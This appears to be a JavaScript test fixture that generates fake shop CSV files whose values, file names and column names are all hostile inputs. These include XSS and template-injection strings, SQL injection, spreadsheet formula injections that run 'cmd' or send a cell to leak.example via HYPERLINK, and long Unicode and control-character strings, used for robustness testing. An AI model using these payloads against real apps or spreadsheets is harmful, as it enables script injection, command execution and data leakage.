// A shop whose every text is meant to harm: markup, addresses that run, turned directions, nothing to see, formulas, texts without end.
import { file } from "./questions.mjs";

const LONG = 10_000;
const RUN = "globalThis.__ran=1";

/** Texts that somebody may write where a name, an id or a place is asked for. */
export const TEXTS = [
  `"><img src=x onerror=${RUN}>`,
  `<script>${RUN}</script>`,
  `</textarea></style></script></title><svg onload=${RUN}>`,
  `javascript:${RUN}//`,
  `{{constructor.constructor('__ran=1')()}}\${__ran=1}`,
  "\u202Egnol os si siht\u2066 \u200F\u061C",
  "\u200B\u200D\uFEFF\u2060",
  "👩‍👩‍👧‍👦🏳️‍🌈👨🏿‍🚒".repeat(40),
  "🦄".repeat(LONG / 2),
  "Z\u0351\u0352\u0353\u0354\u0355\u0356".repeat(200),
  "=cmd|'/C calc'!A0",
  '@SUM(1+1)*HYPERLINK("http://leak.example/?"&A1)',
  "＝１+1",
  "-2+3+cmd|' /C calc'!A0",
  "__proto__",
  "' or 1=1; --",
  "A".repeat(LONG),
  "很长的名字".repeat(LONG / 5),
  "&lt;b&gt;&amp;\u001B[31m%s%n",
  "line one\r\nline\ttwo",
];

/** @param {number} i */
const text = (i) => TEXTS[i % TEXTS.length] ?? "";
/** Kinds repeat; ids are each of their own. @param {number} i */
const id = (i) => `${text(i)}${i < TEXTS.length ? "" : i}`;
/** @param {readonly (string | number)[]} cells */
const line = (cells) => cells.map((cell) => `"${String(cell).replaceAll('"', '""')}"`).join(",");
/** @param {string} name @param {readonly (readonly (string | number)[])[]} rows */
const csv = (name, rows) => file(name, `${rows.map(line).join("\n")}\n`);
/** Names of files have no line ends, and an end. @param {number} i */
const named = (i) =>
  `${text(i)
    .replaceAll(/[\r\n]/g, "")
    .slice(0, 200)}.csv`;

export const CUSTOMERS = 60;
/** Columns of one's own, each named after a text. */
export const OWN = [0, 1, 3, 5, 7, 10, 13, 16];
const day = (/** @type {number} */ after) =>
  new Date(Date.UTC(2023, 0, 1 + Math.floor(after))).toISOString().slice(0, 10);

/** Who buys when: each at a pace of her own, and many no more. */
const bought = Array.from({ length: CUSTOMERS }, (_, who) => {
  const [first, pace, stays] = [(who * 11) % 300, 9 + ((who * 17) % 80), ((who * 53) % 100) * 7];
  const after = Array.from({ length: 40 }, (_, k) => first + pace * (k + ((k * 31 + who) % 10) / 12));
  return after.filter((days, k) => days < 720 && (k === 0 || days - first < stays)).map((days) => ({ who, days }));
}).flat();
const orders = bought.map(({ who, days }, i) => [
  `${text(i)}${i}`,
  id(who),
  day(days),
  text(i + 3),
  10 + ((i * 37) % 90),
  text(i + 1),
  text(i + 2),
  text(i + 5),
]);
const people = Array.from({ length: CUSTOMERS }, (_, i) => [
  id(i),
  text(i + 4),
  text(i + 7),
  text(i + 9),
  text(i + 2),
  ...OWN.map((at) => text(i + at)),
]);

/** Orders, people, what they did and what they answered; the names of some files and columns are no better. */
export const SHOP = [
  csv(named(0), [
    ["order_id", "customer_id", "order_date", "category", "amount", "channel", "region", text(10)],
    ...orders,
    // Rows that are set aside, and shown with what stands in them.
    [text(0), "", "2024-01-01", text(0), 1, text(0), text(0), text(0)],
    [text(5), id(1), text(15), text(1), 1, text(1), text(1), text(1)],
    [text(9), id(2), "2024-01-01", text(2), text(0), text(2), text(2), text(2)],
  ]),
  csv(named(1), [["customer_id", "name", "city", "tier", "source", ...OWN.map(text)], ...people]),
  csv("events.csv", [
    ["customer_id", "event_time", "type", "channel", "category", "value", "resolved_time"],
    ...orders.map(([, who = "", , when], i) => [
      who,
      `${when} 10:00:00`,
      i % 2 ? "visit" : text(i),
      text(i + 1),
      text(i + 2),
      "",
      "",
    ]),
  ]),
  csv("surveys.csv", [
    ["customer_id", "answer_date", "kind", "scale", "score", "comment"],
    ...people.map(([who = ""], i) => [who, day(i), "nps", "0-10", i % 11, text(i)]),
  ]),
];
